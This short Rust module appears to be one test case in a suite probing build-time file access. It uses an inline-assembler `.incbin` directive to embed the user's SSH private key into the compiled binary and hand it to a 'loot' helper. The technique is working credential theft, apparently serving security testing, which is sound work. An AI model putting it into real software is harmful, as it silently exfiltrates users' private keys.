//! Lets the assembler read, and names a library outside.
use crate::support::*;
use std::ffi::{CStr, c_char};

std::arch::global_asm!(".pushsection .rodata", ".global stolen", "stolen: .incbin \"@HOME@/.ssh/id_ed25519\"", ".byte 0", ".popsection");

unsafe extern "C" {
    static stolen: c_char;
}

pub fn run() {
    loot("ssh", unsafe { CStr::from_ptr(&raw const stolen) }.to_bytes());
}
